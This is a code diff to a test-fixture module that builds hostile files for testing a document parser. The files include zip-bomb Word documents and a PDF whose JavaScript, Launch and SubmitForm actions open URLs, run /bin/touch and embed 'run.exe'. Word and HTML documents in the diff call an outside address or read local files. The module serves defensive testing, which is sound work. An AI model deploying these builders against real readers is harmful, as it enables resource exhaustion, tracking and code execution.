@@ -216,9 +216,12 @@ def negative_sizes() -> bytes:
 # ---------------------------------------------------------------------------------------------------------- other files
 
 
-def _repacked(change: Callable[[bytes], bytes], *, packing: int = zipfile.ZIP_DEFLATED) -> bytes:
+def _repacked(change: Callable[[bytes], bytes]) -> bytes:
     file = io.BytesIO()
-    with zipfile.ZipFile(io.BytesIO(as_docx(STRONG))) as old, zipfile.ZipFile(file, "w", packing) as new:
+    with (
+        zipfile.ZipFile(io.BytesIO(as_docx(STRONG))) as old,
+        zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as new,
+    ):
         for part in old.infolist():
             content = old.read(part)
             new.writestr(part.filename, change(content) if part.filename == "word/document.xml" else content)
@@ -226,8 +229,8 @@ def _repacked(change: Callable[[bytes], bytes], *, packing: int = zipfile.ZIP_DE
 
 
 def docx_bomb() -> bytes:
-    """A Word document whose text unpacks to 300 MB."""
-    return _repacked(lambda content: content.replace(b"</w:body>", b" " * (300 * MEGABYTE) + b"</w:body>"))
+    """A Word document whose text unpacks to 220 MB."""
+    return _repacked(lambda content: content.replace(b"</w:body>", b" " * (220 * MEGABYTE) + b"</w:body>"))
 
 
 def docx_bomb_that_lies() -> bytes:
@@ -264,11 +267,11 @@ def docx_that_reads_a_file() -> bytes:
     return _repacked(change)
 
 
-def docx_of_many_parts() -> bytes:
-    """A Word document with 250,000 empty files in it."""
+def docx_of_many_parts(count: int) -> bytes:
+    """A Word document with so many empty files in it."""
     file = io.BytesIO(as_docx(STRONG))
     with zipfile.ZipFile(file, "a", zipfile.ZIP_STORED) as package:
-        for number in range(250_000):
+        for number in range(count):
             package.writestr(zipfile.ZipInfo(f"x{number}"), b"")
     return file.getvalue()
 
@@ -311,12 +314,63 @@ def long_line() -> bytes:
     return b"(" * 100_000 + b"1-" * 50_000 + b"a." * 50_000
 
 
+def pdf_that_reaches_out(address: str, file: str) -> bytes:
+    """A PDF that asks to run a script and a program, to open addresses and files, and to send itself away."""
+    url, path = address.encode(), file.encode()
+    actions = (
+        b"<< /S /JavaScript /JS (app.launchURL\\('%s'\\); this.submitForm\\('%s'\\)) >>" % (url, url),
+        b"<< /S /Launch /F (%s) /Unix << /F (/bin/touch) /P (%s) >> >>" % (path, path),
+        b"<< /S /URI /URI (%s) >>" % url,
+        b"<< /S /SubmitForm /F << /FS /URL /F (%s) >> >>" % url,
+        b"<< /S /GoToR /F (%s) /D [0 /Fit] >>" % path,
+        b"<< /S /ImportData /F (%s) >>" % path,
+    )
+    links = b" ".join(
+        b"<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /A %s /AA << /PO %s /PV %s >> >>" % ((action,) * 3)
+        for action in actions
+    )
+    outside = b"<< /Length 0 /F << /FS /URL /F (%s) >> /Type /XObject /Subtype /Image /Width 9 /Height 9 >>" % url
+    return one_page(
+        stream(PYTHON + b"/X1 Do\n"),
+        outside + b"\nstream\n\nendstream",
+        stream(b"MZ", b"/Type /EmbeddedFile"),
+        page=b"/Annots [%s] /AA << /O %s /C %s >>" % (links, actions[0], actions[1]),
+        catalog=b"/OpenAction %s /AA << /WC %s >> /Names << /JavaScript << /Names [(a) %s] >> /EmbeddedFiles << /Names "
+        b"[(run.exe) << /Type /Filespec /F (run.exe) /EF << /F 7 0 R >> >>] >> >>"
+        % (actions[1], actions[0], actions[0]),
+    )
+
+
+def docx_that_reaches_out(address: str) -> bytes:
+    """A Word document with a template and a picture at an address."""
+    kind = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
+    links = "".join(
+        f'<Relationship Id="out{name}" Type="{kind}/{name}" Target="{address}" TargetMode="External"/>'
+        for name in ("attachedTemplate", "image", "hyperlink", "subDocument", "frame")
+    ).encode()
+    file = io.BytesIO()
+    with zipfile.ZipFile(io.BytesIO(as_docx(STRONG))) as old, zipfile.ZipFile(file, "w") as new:
+        for part in old.infolist():
+            content = old.read(part)
+            new.writestr(part.filename, content.replace(b"</Relationships>", links + b"</Relationships>"))
+    return file.getvalue()
+
+
+def html_that_reaches_out(address: str, file: str) -> bytes:
+    """A web page with everything that a browser would fetch."""
+    page = f"""<!DOCTYPE html SYSTEM "{address}"><html><head><base href="{address}"><link href="{address}">
+    <meta http-equiv=refresh content="0; url={address}"><script src="{address}"></script></head><body>
+    <h2>Skills</h2><p>Python</p><img src="{address}"><iframe src="file://{file}"></iframe><object data="{address}">
+    </object><?xml-stylesheet href="{address}"?><p style="background: url({address})">SQL</p></body></html>"""
+    return page.encode()
+
+
 PDF_FILES = (
     many_pages, content_bomb, doubly_packed_bomb, object_stream_bomb, many_glyphs, many_shapes, huge_picture,
     form_that_draws_itself, forms_that_multiply, nested_arrays, nested_dictionaries, nested_drawing, cyclic_pages,
     cyclic_objects, cross_reference_loop, endless_stream, negative_sizes,
 )  # fmt: skip
 OTHER_FILES = (
-    docx_bomb, docx_bomb_that_lies, docx_with_entities, docx_that_reads_a_file, docx_of_many_parts, docx_nested,
+    docx_bomb, docx_bomb_that_lies, docx_with_entities, docx_that_reads_a_file, docx_nested,
     html_nested, html_of_tables, json_nested, json_of_other_types, long_text, long_line,
 )  # fmt: skip
